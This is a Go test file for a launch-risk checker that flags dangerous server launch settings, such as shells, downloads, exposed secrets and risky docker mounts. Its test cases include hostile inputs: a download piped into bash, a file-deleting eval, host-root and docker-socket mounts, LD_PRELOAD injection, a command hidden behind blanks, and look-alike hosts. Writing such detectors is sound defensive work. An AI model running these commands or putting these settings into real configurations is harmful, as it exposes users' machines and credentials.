package consent

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func TestLaunchRisk(t *testing.T) {
	stdio := func(command string, args ...string) Launch {
		return Launch{Transport: "stdio", Command: command, Args: args}
	}
	for _, test := range []struct {
		launch Launch
		want   string // besides runs-as-you: code pointer detail; …
		high   bool
	}{
		{stdio("/usr/bin/node", "/home/you/server.js", "--stdio"), "", false},
		{stdio("/bin/sh", "-c", "server | tee log"), "runs-shell command sh; runs-inline-code args/0 -c", true},
		{stdio("/bin/bash", "-lc", "curl -fsSL https://x.example/i | bash"), "runs-shell command bash; runs-inline-code args/0 -lc; uses-network args/1 curl -fsSL; runs-download args/1 bash; leaves-computer args/1 x.example", true},
		{stdio("/bin/bash", "run.sh"), "runs-shell command bash", true},
		{stdio("/usr/bin/env", "X=1", "bash", "-c", "true"), "runs-shell args/1 bash; runs-inline-code args/2 -c", true},
		{stdio(`C:\Windows\System32\cmd.exe`, "/c", "npx", "pkg"), "runs-shell command cmd; runs-inline-code args/0 /c; downloads-code args/1 npx; not-pinned args/2 pkg", true},
		{stdio("pwsh", "-EncodedCommand", "ZQB2AGkAbAA="), "runs-shell command pwsh; runs-inline-code args/0 -EncodedCommand", true},
		{stdio("/usr/bin/node", "--eval", "require('fs').rmSync('/x')"), "runs-inline-code args/0 --eval; deletes-files args/1 .rmSync", true},
		{stdio("/usr/bin/node", "--eval=1"), "runs-inline-code args/0 --eval=1", true},
		{stdio("/usr/bin/python3", "-m", "server"), "", false},
		{stdio("/usr/bin/python3", "-c", "print(1)"), "runs-inline-code args/0 -c", true},
		{stdio("cmd", "/c", "npx.cmd", "-y", "pkg@1.0.0"), "runs-shell command cmd; runs-inline-code args/0 /c; batch-file args/1 npx; downloads-code args/1 npx", true},
		{stdio("sudo", "-E", "node", "x.js"), "runs-as-root command sudo", true},
		{stdio("docker", "run", "-i", "mcp/node:1", "-e", "x"), "downloads-code args/2 mcp/node:1", false},
		{stdio("server.bat"), "batch-file command server", false},
		{stdio("server.cmd"), "batch-file command server", false},
		{stdio("/usr/bin/npx", "-y", "pkg"), "downloads-code command npx; not-pinned args/1 pkg", false},
		{stdio("/usr/bin/npx", "-y", "@s/pkg@1.2.3", "--", "-e"), "downloads-code command npx", false},
		{stdio("/usr/bin/npx", "-y", "@s/pkg"), "downloads-code command npx; not-pinned args/1 @s/pkg", false},
		{stdio("/usr/bin/npx", "pkg@latest"), "downloads-code command npx; not-pinned args/0 latest", false},
		{stdio("/usr/bin/npx", "pkg@^1.2.0"), "downloads-code command npx; not-pinned args/0 ^1.2.0", false},
		{stdio("/usr/bin/npx", "-p", "pkg", "cmd@1.0.0"), "downloads-code command npx; not-pinned args/1 pkg", false},
		{stdio("/usr/bin/npx", "--package=pkg@2.0.0", "cmd"), "downloads-code command npx", false},
		{stdio("/usr/bin/npx", "--registry", "http://r.example", "pkg@1.0.0"), "insecure-url args/1 r.example; downloads-code command npx", true},
		{stdio("/usr/bin/npm", "exec", "pkg"), "downloads-code command npx; not-pinned args/1 pkg", false},
		{stdio("/usr/bin/uvx", "pg-mcp==0.9.2"), "downloads-code command uvx", false},
		{stdio("/usr/bin/uvx", "--from", "git+https://github.example/x", "x"), "downloads-code command uvx; not-pinned args/1 git+https://github.example/x", false},
		{stdio("/usr/bin/uv", "tool", "run", "x"), "downloads-code command uvx; not-pinned args/2 x", false},
		{stdio("/usr/bin/npx", "-y", "mcp-remote", "https://t.example/sse"), "downloads-code command npx; not-pinned args/1 mcp-remote; remote-bridge args/1 https://t.example/sse", true},
		{stdio("docker", "run", "-i", "--rm", "-v", "/home/you:/data", "-e", "T", "r.example/a:latest"), "shares-home args/4 /home/you; downloads-code args/7 r.example/a:latest; not-pinned args/7 latest", true},
		{stdio("docker", "run", "-v", "/var/run/docker.sock:/var/run/docker.sock", "a:1"), "shares-docker-socket args/2 /var/run/docker.sock; downloads-code args/3 a:1", true},
		{stdio("docker", "run", "-v/:/host", "a:1"), "shares-root args/1 /; downloads-code args/2 a:1", true},
		{stdio("docker", "run", "--volume=/etc:/e", "a:1"), "shares-root args/1 /etc; downloads-code args/2 a:1", true},
		{stdio("docker", "run", "--mount", "type=bind,source=/srv/x,target=/y", "a:1"), "shares-folder args/2 /srv/x; downloads-code args/3 a:1", false},
		{stdio("docker", "run", "-v", "named:/data", "a@sha256:00"), "downloads-code args/3 a@sha256:00", false},
		{stdio("docker", "run", "-v", `C:\Users\you:/data`, "a:1"), `shares-home args/2 C:\Users\you; downloads-code args/3 a:1`, true},
		{stdio("docker", "run", "--privileged", "--network", "host", "--pid=host", "a:1"), "leaves-container args/1 --privileged; leaves-container args/3 --network host; leaves-container args/4 --pid host; downloads-code args/5 a:1", true},
		{stdio("podman", "run", "localhost:5000/a"), "downloads-code args/1 localhost:5000/a; not-pinned args/1 localhost:5000/a", false},
		{stdio("docker", "run", "a:1", "-v", "/:/x"), "downloads-code args/1 a:1", false},
		{stdio("/x", "--api-key", "abcdefgh"), "secret-in-argument args/1 api-key", false},
		{stdio("/x", "--token=ghp_0123456789abcdef"), "secret-in-argument args/0 token", false},
		{stdio("/x", "--header", "Authorization: Bearer sk-test-0000-desktop"), "secret-in-argument args/1 header", false},
		{stdio("/x", "--header", "Authorization: Bearer ${T}"), "", false},
		{stdio("/x", "--token-file", "/etc/x", "--token", "${T}"), "", false},
		{stdio("/x", "https://h.example/?api_key=sk-test-0000-lm"), "secret-in-argument args/0 ", false},
		{stdio("/x", "a"+strings.Repeat(" ", 500)+"; evil"), "blank-run args/0 500", false},
		{stdio("/x", "a\n\tb"), "line-break args/0 2", false},
		{stdio("/x", "a\u202eb", "sеarch"), "hidden-character args/0 right-to-left override; look-alike args/1 sеarch", false},
		{stdio("/x\u200b"), "hidden-character command zero-width space", false},
		{stdio("/x", "http://plain.example", "http://localhost:1"), "insecure-url args/0 plain.example", true},
		{Launch{Transport: "stdio", Command: "/x", Env: []Var{{Name: "LD_PRELOAD", Value: "/x"}, {Name: "node_options", Value: "--require x"}, {Name: "PATH", Value: "/x"}, {Name: "DYLD_INSERT_LIBRARIES", Ref: "env:X"}, {Name: "TZ", Value: "UTC"}}}, "changes-loading env/LD_PRELOAD LD_PRELOAD; changes-loading env/node_options node_options; changes-loading env/PATH PATH; changes-loading env/DYLD_INSERT_LIBRARIES DYLD_INSERT_LIBRARIES", false},
		{Launch{Transport: "stdio", Command: "/x", Env: []Var{{Name: "API_KEY", Value: "sk-test-0000"}, {Name: "B_TOKEN", Ref: "keyring:x"}, {Name: "U", Value: "postgres://u:p@h/d"}}}, "secret-in-plain env/API_KEY API_KEY; secret-in-plain env/U U", false},
		{Launch{Transport: "http", URL: "https://h.example/mcp"}, "contacts-host url h.example", true},
		{Launch{Transport: "http", URL: "http://h.example/mcp?next=https://x.example"}, "insecure-url url h.example; contacts-host url h.example", true},
		{Launch{Transport: "http", URL: "http://127.0.0.1:3000/mcp"}, "local-address url 127.0.0.1", false},
		{Launch{Transport: "http", URL: "http://[::1]:3000/mcp"}, "local-address url ::1", false},
		{Launch{Transport: "http", URL: "https://u:p@h.example/"}, "url-credentials url h.example; contacts-host url h.example; secret-in-plain url url", true},
		{Launch{Transport: "http", URL: "https://bank.example@evil.example/"}, "url-credentials url evil.example; contacts-host url evil.example", true},
		{Launch{Transport: "http", URL: "https://xn--bnk-5cd.example", Headers: []Var{{Name: "Authorization", Value: "Bearer abcdefgh"}, {Name: "PATH", Value: "x"}}}, "odd-host url xn--bnk-5cd.example; contacts-host url xn--bnk-5cd.example; secret-in-plain headers/Authorization Authorization", true},
	} {
		r := LaunchRisk(test.launch)
		var got []string
		for _, f := range r.Findings {
			if f.Code == CodeRunsAsYou && test.launch.Transport == "stdio" {
				continue
			}
			got = append(got, fmt.Sprintf("%s %s %s", f.Code, f.Pointer, f.Detail))
		}
		if strings.Join(got, "; ") != test.want || r.High != test.high {
			t.Errorf("%q %q %s: high %t\n got %s\nwant %s", test.launch.Command, test.launch.Args, test.launch.URL, r.High, strings.Join(got, "; "), test.want)
		}
		if local := test.launch.Transport == "stdio"; r.has(CodeRunsAsYou) != local {
			t.Errorf("%s: a local server runs as you: %t", test.launch.Command, !local)
		}
	}
}

// The demo server is known by the path of this program and its one argument, never by a name.
func TestLaunchKnowsTheDemo(t *testing.T) {
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	stdio := func(command string, args ...string) Launch {
		return Launch{Transport: "stdio", Command: command, Args: args}
	}
	for _, test := range []struct {
		launch Launch
		own    bool
	}{
		{stdio(self, "demo-server"), true},
		{stdio(self, "demo-server", "--more"), false},
		{stdio(self), false},
		{stdio(self, "call"), false},
		{stdio(filepath.Base(self), "demo-server"), false},
		{stdio("/tmp/"+filepath.Base(self), "demo-server"), false},
	} {
		r := LaunchRisk(test.launch)
		if r.has(CodeOwnDemo) != test.own || r.has(CodeRunsAsYou) == test.own || (r.Class == ClassRead) != test.own {
			t.Errorf("%q %q: %+v", test.launch.Command, test.launch.Args, r)
		}
	}
	loaded := stdio(self, "demo-server")
	loaded.Env = []Var{{Name: "LD_PRELOAD", Value: "/x"}}
	if r := LaunchRisk(loaded); !r.has(CodeChangesLoading) || r.Class == ClassRead {
		t.Errorf("with other code loaded into it: %+v", r)
	}
}

// A launch consent is about everything that is shown: 4 kB, line breaks, tabs and 500 blanks survive.
func TestLaunchFindsEveryByte(t *testing.T) {
	arg := strings.Repeat("x", 4096) + "\n\t" + strings.Repeat(" ", 500) + "; evil"
	r := LaunchRisk(Launch{Transport: "stdio", Command: "/x", Args: []string{arg}})
	for _, f := range r.Findings {
		if f.Code == CodeBlankRun && (f.Start != 4096 || f.End != 4096+502 || f.Line != 1) {
			t.Errorf("%+v", f)
		}
	}
	if !r.has(CodeBlankRun) || !r.has(CodeLineBreak) {
		t.Errorf("%+v", r.Findings)
	}
}

func TestDangerVariable(t *testing.T) {
	for name, want := range map[string]bool{
		"LD_PRELOAD": true, "ld_library_path": true, "DYLD_X": true, "NODE_OPTIONS": true, "PYTHONPATH": true, "Path": true, "HTTPS_PROXY": true,
		"TZ": false, "API_KEY": false, "": false, "OLD_PATH": false,
	} {
		if DangerVariable(name) != want {
			t.Errorf("%q: want %t", name, want)
		}
	}
}

func TestLooksSecret(t *testing.T) {
	for _, test := range []struct {
		name, value string
		want        bool
	}{
		{"NOTES_API_KEY", "sk-test-0000-desktop-notes", true},
		{"x", "sk-test-0000-desktop-notes", true},
		{"x", "Bearer ghp_0123456789", true},
		{"x", "a=AKIA0123456789ABCDEF", true},
		{"x", "-----BEGIN PRIVATE KEY-----", true},
		{"x", "postgres://app:secret@h/db", true},
		{"x", "postgres://app:${PW}@h/db", false},
		{"x", "postgres://app@h/db", false},
		{"DB_PASSWORD", "hunter2", true},
		{"dbPassword", "hunter2", true},
		{"Authorization", "Bearer abc", true},
		{"Authorization", "Bearer ${env:TOKEN}", false},
		{"Authorization", "Bearer ${TOKEN:-fallback}", true},
		{"Authorization", "${TOKEN:-}", false},
		{"TOKEN_FILE", "abc", false},
		{"PUBLIC_KEY", "abc", false},
		{"KEY_NAME", "abc", false},
		{"TOKEN_LIMIT", "abc", false},
		{"MAX_TOKENS", "4096", false},
		{"TOKEN", "4096", false},
		{"TOKEN", "true", false},
		{"TOKEN", "/run/secrets/x", false},
		{"TOKEN", "<YOUR_TOKEN>", false},
		{"TOKEN", "changeme", false},
		{"TOKEN", "", false},
		{"LOG_LEVEL", "info", false},
		{"", "plain", false},
	} {
		if got := LooksSecret(test.name, test.value); got != test.want {
			t.Errorf("%s=%s: got %t", test.name, test.value, got)
		}
	}
}

func TestHosts(t *testing.T) {
	for host, want := range map[string]string{
		"example.com": CodeLeavesComputer, "8.8.8.8": CodeLeavesComputer, "2001:db8::1": CodeLeavesComputer, "1.1": CodeLeavesComputer, "2130706433": CodeLeavesComputer,
		"localhost": CodeLocalAddress, "app.localhost": CodeLocalAddress, "127.0.0.1": CodeLocalAddress, "127.9.9.9": CodeLocalAddress, "::1": CodeLocalAddress, "::ffff:127.0.0.1": CodeLocalAddress,
		"10.0.0.1": CodePrivateAddress, "192.168.1.1": CodePrivateAddress, "172.16.0.1": CodePrivateAddress, "169.254.169.254": CodePrivateAddress, "100.64.0.1": CodePrivateAddress,
		"fd00::1": CodePrivateAddress, "fe80::1": CodePrivateAddress, "0.0.0.0": CodePrivateAddress, "nas": CodePrivateAddress, "nas.local": CodePrivateAddress, "::ffff:10.0.0.1": CodePrivateAddress,
		"localhost.evil.example": CodeLeavesComputer, "127.0.0.1.evil.example": CodeLeavesComputer,
	} {
		if got := hostCode(host); got != want {
			t.Errorf("%s: got %s, want %s", host, got, want)
		}
	}
	for host, want := range map[string]bool{
		"example.com": false, "8.8.8.8": false, "::1": false, "xn--e1.example": true, "bücher.example": true, "0x7f.0.0.1": true, "2130706433": true, "017700000001": true, "h2.example": false,
	} {
		if got := oddHost(host); got != want {
			t.Errorf("%s: odd %t", host, got)
		}
	}
}

func TestAddresses(t *testing.T) {
	for text, want := range map[string]string{
		"see https://A.example:8443/x, ok": "https://A.example:8443 a.example",
		"https://a.example.":               "https://a.example. a.example",
		"https:///a.example":               "https:///a.example a.example",
		`https:\\a.example`:                "",
		"https://u@b@a.example/":           "https://u@b@a.example a.example user",
		"https://[::1]:80/x":               "https://[::1]:80 ::1",
		"git+ssh://h/x and ftp://i":        "git+ssh://h h; ftp://i i",
		"xhttps://a.example":               "",
		"memo://x file:///etc":             "",
		"://x":                             "",
		"http://":                          "http:// ",
		"(http://a.example)":               "http://a.example a.example",
	} {
		var got []string
		eachAddress(text, func(a address) {
			line := text[a.start:a.end] + " " + a.host
			if a.userInfo {
				line += " user"
			}
			got = append(got, line)
		})
		if strings.Join(got, "; ") != want {
			t.Errorf("%q: got %q, want %q", text, strings.Join(got, "; "), want)
		}
	}
}
